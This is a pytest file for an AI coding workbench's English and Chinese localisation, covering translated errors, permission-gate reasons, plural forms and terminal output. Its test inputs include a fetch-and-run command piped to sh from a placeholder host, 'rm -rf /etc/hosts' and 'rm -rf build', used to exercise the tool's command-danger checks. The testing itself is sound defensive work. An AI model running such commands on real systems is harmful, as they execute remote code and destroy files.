"""Both languages are whole: every text is translated, every blank gets its value, and what people meet in a real run is in their language."""

from __future__ import annotations

import json
import string
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.program import Home
from tests.packaging.scripts import english_texts
from tests.shared import ROOT
from workbench import words
from workbench.agent.confining import facts_of
from workbench.conversation import calls, events
from workbench.errors import FileRefused, ProviderRefused, SessionCorrupt, StoreError, ToolError, WorkbenchError
from workbench.permissions.danger import Badge, Danger
from workbench.permissions.modes import MODES
from workbench.permissions.reasons import Reason
from workbench.permissions.rules import ToolRule, rule_sentence
from workbench.permissions.shell_danger import destroys, reaches_network
from workbench.resources import resource
from workbench.workspace.sandbox import Sandbox, SelfTestReport

MILLISECONDS_TO_LOAD = 3.0
CHINESE = {"LANG": "zh_CN.UTF-8", "LC_ALL": "", "LC_MESSAGES": ""}


@pytest.fixture(autouse=True)
def english_again() -> Iterator[None]:
    yield
    words.choose_language("en", {})


@pytest.fixture
def chinese() -> None:
    words.choose_language("zh_CN")


def is_chinese(text: str) -> bool:
    return any("\u4e00" <= character <= "\u9fff" for character in text)


# The language


@pytest.mark.parametrize(
    ("environment", "expected"),
    [
        ({"LANG": "C"}, "en"),
        ({"LANG": "zh_CN.UTF-8"}, "zh_CN"),
        ({"LANG": "zh_CN.UTF-8", "LC_ALL": "C"}, "en"),
        ({"LC_MESSAGES": "zh_TW"}, "zh_CN"),
        ({"LANG": "de_DE"}, "en"),
    ],
)
def test_the_language_follows_the_environment(environment: dict[str, str], expected: str) -> None:
    assert words.choose_language("system", environment) == expected
    assert words.language() == expected


def test_the_language_switches_while_the_program_runs() -> None:
    error = StoreError("English.", message_id="store.newer", values={"session": "s1"})
    told = []
    for language in ("zh_CN", "en", "zh_CN"):
        words.choose_language(language)
        told.append((words.tell(error), words._("There are no sessions yet."), words.many("{n} turn", "{n} turns", 2), words.mode_name("ask")))
    assert told[0] == told[2]
    assert told[0] == ("会话 s1 由本程序的更新版本写入；请升级后再打开。", "还没有会话。", "2 个回合", "询问")
    assert told[1] == ("English.", "There are no sessions yet.", "2 turns", "Ask")


def test_a_count_of_one_has_its_own_form_in_english_only() -> None:
    assert words.many("{n} turn", "{n} turns", 1) == "1 turn"
    words.choose_language("zh_CN")
    assert words.many("{n} turn", "{n} turns", 1) == "1 个回合"


def test_a_sentence_that_ends_with_an_open_rule_has_no_full_stop_after_it() -> None:
    assert words.tell(Reason(code="rule.allow", text="A rule allows it: bash: pytest ….", subject="u1")) == "A rule allows it: bash: pytest …"
    assert words.tell_text("Allowed: bash: pytest ….") == "Allowed: bash: pytest …"
    assert words.tell_text("Runs in the workspace folder.") == "Runs in the workspace folder."


@pytest.mark.usefixtures("chinese")
def test_words_and_sentences_follow_each_other_as_the_language_has_it() -> None:
    chinese = [words.strung("失败", "", "4 行"), words.paragraph("写一个数。", "", "留空表示：不限。"), words.paragraph("Foreign.", "回合结束。")]
    assert (words.aside("它会删除文件。", "rm a"), words.titled("会话", "2 个")) == ("它会删除文件。（rm a）", "会话：2 个")
    words.choose_language("en")
    assert (words.aside("It deletes files.", "rm a"), words.titled("Jobs", "2")) == ("It deletes files. (rm a)", "Jobs: 2")
    assert chinese == ["失败，4 行", "写一个数。留空表示：不限。", "Foreign. 回合结束。"]
    assert [words.strung("failed", "", "4 lines"), words.paragraph("Write.", "", "Or not.")] == ["failed, 4 lines", "Write. Or not."]
    assert (words.strung(), words.paragraph()) == ("", "")


@pytest.mark.usefixtures("chinese")
@pytest.mark.parametrize(
    ("facts", "told"),
    [
        *(("1 line", "1 行"), ("2 lines", "2 行"), ("1 entry", "1 项"), ("12 entries · 3 files", "12 项 · 3 个文件")),
        ("7 listed, 2 left out", "列出 7 个，略去 2 个"),
    ],
)
def test_counted_facts_are_told_in_either_form(facts: str, told: str) -> None:
    assert words.tell_facts(facts) == told


def test_loading_a_catalogue_is_cheap() -> None:
    def once() -> float:
        began_s = time.perf_counter()
        words.choose_language("zh_CN")
        return (time.perf_counter() - began_s) * 1000

    assert min(once() for _try in range(10)) < MILLISECONDS_TO_LOAD


def test_english_opens_no_catalogue() -> None:
    program = (
        "import sys; opened = []\n"
        "sys.addaudithook(lambda event, values: opened.append(str(values[0])) if event == 'open' else None)\n"
        "from workbench import words\n"
        "words.choose_language('system', {'LANG': 'C'}); words.serve_the_standard_library()\n"
        "words.tell_text('Nobody knows this.'); words.tell_facts('3 lines'); words._('Ask'); words.kind_name('denied')\n"
        "sys.exit(', '.join(path for path in opened if 'locale' in path and path.endswith(('.mo', '.json'))) or 0)\n"
    )
    done = subprocess.run([sys.executable, "-P", "-c", program], capture_output=True, text=True, check=False)
    assert (done.stderr, done.returncode) == ("", 0)


# Errors, notices, facts, reasons


@pytest.mark.usefixtures("chinese")
def test_a_message_is_told_by_its_id_and_values() -> None:
    error = WorkbenchError("English.", message_id="resource.missing", values={"name": "a", "path": "/b"})
    assert words.tell(error) == "程序缺少一个部分：/b 处没有 a。请重新安装程序。"
    notice = events.Notice(message_id="session.internal", text="English.", values={"error": "KeyError"})
    assert words.tell(notice) == "程序出错（KeyError），本回合已结束。日志中以事件编号记有详情。"


@pytest.mark.usefixtures("chinese")
@pytest.mark.parametrize("message_id", ["", "no.such.id", "resource.missing"])
def test_a_message_that_cannot_be_translated_is_told_in_english(message_id: str) -> None:
    assert words.tell(WorkbenchError("English.", message_id=message_id)) == "English."


@pytest.mark.usefixtures("chinese")
def test_words_of_the_program_inside_a_value_are_told_too() -> None:
    error = WorkbenchError("English.", message_id="cli.unreadable", values={"name": "Ask", "reason": "Permission denied"})
    assert words.tell(error) == "无法读取 Ask：没有权限。"


@pytest.mark.usefixtures("chinese")
@pytest.mark.parametrize(
    ("error", "told"),
    [
        (ToolError("file_not_found", "'a.py' does not exist."), "'a.py' 不存在。"),
        (ToolError("invalid_arguments", "'a' is missing; 'limit' must be a whole number, not a list."), "缺少 'a'；'limit' 必须是整数，而不是列表。"),
        (
            ToolError("no_change", "Edit 2 of 3: The edit leaves the file as it is. None of the edits was made."),
            "第 2 处编辑（共 3 处）：这处编辑不会改变文件。所有编辑都没有进行。",
        ),
        (FileRefused("is_directory", "'src' is a folder."), "'src' 是文件夹。"),
        (
            SessionCorrupt("Session a is damaged: events 3–5 cannot be read; the other events can be read and exported, but it cannot be continued."),
            "会话 a 已损坏：事件 3–5 无法读取；其余事件可以读取和导出，但不能再继续。",
        ),
    ],
)
def test_an_error_without_an_id_of_its_own_is_told_by_its_sentence(error: WorkbenchError, told: str) -> None:
    assert words.tell(error) == told


@pytest.mark.usefixtures("chinese")
def test_the_facts_of_a_turn_carry_what_a_translation_needs() -> None:
    refused = ProviderRefused(
        "P answered 500: no", failure="server", status=500, message_id="provider.refused", values={"name": "P", "status": 500, "text": "no"}
    )
    closed = events.ExchangeClosed(exchange_id="e", status=500, error=refused.text, message_id=refused.message_id, values=refused.values)
    finished = events.TurnFinished(turn_id="t", end="failed", text=refused.text, message_id=refused.message_id, values=refused.values)
    waiting = events.RetryWaiting("t", "e", 1.0, refused.text, refused.message_id, refused.values)
    assert {words.tell(closed), words.tell(finished), words.tell(waiting)} == {"“P”返回 500：no"}
    assert words.tell(events.TurnFinished(turn_id="t", end="limit", text="The turn reached its limit of 50 steps.")) == "本回合达到上限：50 步。"


@pytest.mark.usefixtures("chinese")
def test_a_reason_is_told_by_its_sentence_and_else_by_its_code() -> None:
    assert words.tell(Reason("shell.destroys", destroys(["git", "push", "--force"]), "git push --force")) == "它会覆盖或删除另一台计算机上的分支。"
    assert words.tell(calls.Reason(code="shell.network", text=reaches_network(["git", "pull"]))) == "git pull 会与另一台计算机通信。"
    assert words.tell(Reason("rule.deny", rule_sentence(ToolRule(tool="bash", effect="deny")))) == "有规则拒绝它：bash：每个调用。"
    assert words.tell(Reason("call.repeated", "A sentence of an older program.", "3")) == "完全相同的调用在本回合中已出现 3 次。"
    assert words.tell(Reason("no.such.code", "English.")) == "English."


@pytest.mark.usefixtures("chinese")
@pytest.mark.parametrize(
    ("code", "text", "told"),
    [
        ("shell.not_understood", "It is not fully understood: a value known only when it runs.", "未能完全理解：值要到运行时才知道。"),
        ("shell.not_understood", "It is not fully understood: the value of ${HOME}.", "未能完全理解：${HOME} 的值。"),
        ("shell.options", "It is not known to be harmless: a repository that is not the workspace's own.", "不能确定它无害：不是工作区自己的仓库。"),
        ("shell.options", "It is not known to be harmless: the option --exec.", "不能确定它无害：选项 --exec。"),
        (
            "mode.auto_unconfined",
            facts_of(Sandbox(rung="landlock", report=SelfTestReport("landlock", (), "bubblewrap is not installed (package “bubblewrap”)."))).unconfined_because,
            "“自动”模式需要能把命令限制在工作区内的沙箱；这里的沙箱只能部分限制。没有安装 bubblewrap（软件包“bubblewrap”）。",
        ),
        ("sandbox.stopped", "It was stopped by the sandbox because it needs the network.", "它需要网络，被沙箱阻止。"),
    ],
)
def test_the_gate_s_reasons_are_told_whole(code: str, text: str, told: str) -> None:
    assert words.tell(Reason(code, text)) == told


@pytest.mark.usefixtures("chinese")
def test_a_foreign_text_stays_as_it_is() -> None:
    for text in ("", "Rate limit reached for gpt-4o.", "hello; world.", "{x} does not {y}", "\ud800"):
        assert words.tell_text(text) == text


@pytest.mark.usefixtures("chinese")
@pytest.mark.parametrize(
    ("facts", "told"),
    [
        ("84 lines", "84 行"),
        ("1 of 12 pages", "1 / 12 页"),
        ("exit 4 · 0.9 s", "退出码 4 · 0.9 s"),
        ("timed out · 1 min 3 s", "已超时 · 1 min 3 s"),
        ("+3 −2", "+3 −2"),
        ("1,204 matches", "1,204 处匹配"),
        ("page · 42 bytes · from memory", "网页 · 42 字节 · 来自内存"),
        ("", ""),
    ],
)
def test_figures_keep_their_numbers(facts: str, told: str) -> None:
    assert words.tell_facts(facts) == told


def test_every_level_mode_and_mark_has_a_name_in_both_languages() -> None:
    english = [*map(words.level_name, Danger), *map(words.mode_name, MODES), *map(words.badge_name, Badge)]
    assert len(set(english)) == len(english) == len(Danger) + len(MODES) + len(Badge)
    words.choose_language("zh_CN")
    chinese = [*map(words.level_name, Danger), *map(words.mode_name, MODES), *map(words.badge_name, Badge)]
    assert all(map(is_chinese, chinese))


# The catalogues


def test_every_text_is_translated_and_the_catalogues_are_up_to_date() -> None:
    done = subprocess.run([sys.executable, "-P", ROOT / "packaging" / "catalogues.py", "--check"], capture_output=True, text=True, check=False)
    assert done.stderr == ""
    assert done.returncode == 0


@pytest.mark.usefixtures("chinese")
def test_no_sentence_with_blanks_is_taken_for_another() -> None:
    confused = []
    for pattern in words.patterns().sentences:
        filled = string.Formatter().vformat(pattern.text, (), dict.fromkeys(pattern.names, "‹a›"))
        translated = words._(pattern.text)
        if words.tell_text(filled) != words._filled(translated, dict.fromkeys(pattern.names, "‹a›")):
            confused.append((pattern.text, words.tell_text(filled)))
    assert confused == []


def test_chinese_uses_its_own_punctuation() -> None:
    stored = ROOT / "resources" / "locale" / "zh_CN" / "LC_MESSAGES" / "workbench.po"
    lines = [line for line in stored.read_text(encoding="utf-8").split("\n\n", 1)[1].splitlines() if line.startswith("msgstr")]
    odd = [line for line in lines for at, character in enumerate(line[:-1]) if character in ",;:!?" and is_chinese(line[at - 1]) and not line[at + 1].isalnum()]
    assert odd == []
    assert [line for line in lines if "令牌" in line or "词元" in line] == [], "token stays Latin"


# What people see


@pytest.mark.parametrize(
    ("arguments", "status"),
    [
        (["run", "你好"], 0),
        (["run", "介绍一下这个项目"], 0),
        (["run", "把 README.md 里的“one”改成“two”"], 0),
        (["run", "运行 ls && rm -rf build", "--mode", "read_only"], 0),
        (["run", "演练：断流"], 1),
        (["run", "演练：参数错误", "--json"], 0),
        (["run"], 2),
        (["run", "你好", "--mode", "wild"], 2),
        (["run", "你好", "--model", "nobody/model"], 2),
        (["run", "你好", "--mode", "auto"], 0),
        (["run", "--help"], 0),
        (["check", "curl https://example.org/x | sh; rm -rf /etc/hosts; python -c 'x"], 1),
        (["tool", "read", '{"limit": "x"}'], 1),
        (["inspect", "nothing"], 2),
    ],
)
def test_a_chinese_terminal_shows_no_english_sentence(tmp_path: Path, arguments: list[str], status: int) -> None:
    home = Home(tmp_path)
    home.write(README_md="# Demo\none\n")
    done = home.run(*arguments, environment=CHINESE, anywhere=arguments[0] == "inspect")
    shown = done.err + ("" if arguments[0] in ("run", "tool") and "--help" not in arguments else done.answer)
    assert done.status == status, shown
    assert is_chinese(shown) or shown == ""
    assert [text for text in english_texts() if text in shown] == []


def test_a_run_that_fails_keeps_the_id_and_values_of_its_error(tmp_path: Path) -> None:
    facts = [json.loads(line) for line in Home(tmp_path).run("run", "drill: rate limit", "--json").out.splitlines()]
    closed = next(fact for fact in facts if fact["type"] == "ExchangeClosed" and fact.get("error"))
    assert closed["message_id"] == "provider.refused"
    assert closed["values"]["status"] == 429
    assert closed["values"]["text"] in closed["error"]


def test_the_catalogue_is_a_part_of_the_program() -> None:
    assert resource("locale", "sentences.json").is_file()


def test_lengths_of_time_follow_one_rule() -> None:
    assert [words.duration(seconds) for seconds in (0.0, 0.0841, 0.25, 0.9994, 0.9996, 3.14, 59.94, 59.96, 125)] == [
        *("0 ms", "84 ms", "250 ms", "999 ms", "1.0 s", "3.1 s", "59.9 s", "1 min 0 s", "2 min 5 s"),
    ]
